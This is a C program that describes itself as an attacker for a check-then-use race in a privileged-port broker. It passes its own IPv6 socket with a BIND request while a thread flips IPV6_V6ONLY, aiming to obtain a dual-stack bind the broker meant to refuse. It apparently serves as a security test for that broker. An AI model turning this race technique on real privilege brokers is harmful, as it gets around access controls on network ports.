/* Attacker for the IPV6_V6ONLY check-then-use race on BIND.
 *
 * Sends the broker BIND requests for [::]:PORT with its own IPv6 TCP socket while a second thread flips
 * IPV6_V6ONLY on that same socket as fast as it can, hoping the broker reads "IPv6-only" when it decides and
 * binds dual-stack (which also takes 0.0.0.0:PORT). After each granted bind it reads IPV6_V6ONLY back: once a
 * socket is bound the kernel refuses to change the option, so that read says what the bind took.
 *
 * usage: v6only_flip SOCKET PORT MAX_TRIES MAX_SECONDS
 * prints "WON tries=N" and keeps the dual-stack socket until stdin closes, or at the end
 * "DONE tries=N granted=G won=0".
 */
#define _GNU_SOURCE
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include "privport_protocol.h"

static atomic_int flipping;

static void *flip(void *argument)
{
    int fd = *(int *)argument;
    int value = 0;
    while (atomic_load_explicit(&flipping, memory_order_relaxed)) {
        value = !value;
        (void)setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &value, sizeof value);
    }
    return NULL;
}

static int send_bind(int broker, int fd, uint16_t port)
{
    struct privport_request request;
    memset(&request, 0, sizeof request);
    request.magic = PRIVPORT_REQUEST_MAGIC;
    request.version = PRIVPORT_VERSION;
    request.op = PRIVPORT_OP_BIND;
    request.protocol = IPPROTO_TCP;
    request.family = AF_INET6;
    request.port = port;
    request.flags = PRIVPORT_FLAG_V6ONLY;

    char control[CMSG_SPACE(sizeof(int))];
    memset(control, 0, sizeof control);
    struct iovec data = { .iov_base = &request, .iov_len = sizeof request };
    struct msghdr message = { .msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(header), &fd, sizeof fd);
    return sendmsg(broker, &message, MSG_NOSIGNAL) == (ssize_t)sizeof request ? 0 : -1;
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    if (argc != 5) {
        fprintf(stderr, "usage: %s SOCKET PORT MAX_TRIES MAX_SECONDS\n", argv[0]);
        return 2;
    }

    uint16_t port = (uint16_t)atoi(argv[2]);
    long max_tries = atol(argv[3]);
    double deadline = now() + atof(argv[4]);
    int broker = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
    struct sockaddr_un address = { .sun_family = AF_UNIX };
    strncpy(address.sun_path, argv[1], sizeof address.sun_path - 1);
    if (broker < 0 || connect(broker, (struct sockaddr *)&address, sizeof address) != 0) {
        perror("connect to the broker");
        return 2;
    }

    long tries = 0, granted = 0;
    while (tries < max_tries && now() < deadline) {
        tries++;
        int fd = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);
        int one = 1;
        if (fd < 0 || setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &one, sizeof one) != 0) {
            perror("socket");
            return 2;
        }

        pthread_t flipper;
        atomic_store(&flipping, 1);
        if (pthread_create(&flipper, NULL, flip, &fd) != 0) {
            perror("pthread_create");
            return 2;
        }

        struct privport_reply reply;
        int sent = send_bind(broker, fd, port);
        ssize_t got = sent == 0 ? recv(broker, &reply, sizeof reply, 0) : -1;
        atomic_store(&flipping, 0);
        pthread_join(flipper, NULL);
        if (got != (ssize_t)sizeof reply) {
            fprintf(stderr, "the broker did not answer (try %ld): %s\n", tries, strerror(errno));
            return 2;
        }

        if (reply.status == 0) {
            granted++;
            int v6only = -1;
            socklen_t length = sizeof v6only;
            if (getsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &v6only, &length) != 0) {
                perror("getsockopt");
                return 2;
            }

            if (v6only == 0) {
                printf("WON tries=%ld granted=%ld reason=%s\n", tries, granted, reply.reason);
                fflush(stdout);
                char byte;
                while (read(0, &byte, 1) > 0) {
                }
                return 0;
            }
        }

        close(fd);
    }

    printf("DONE tries=%ld granted=%ld won=0\n", tries, granted);
    return 0;
}
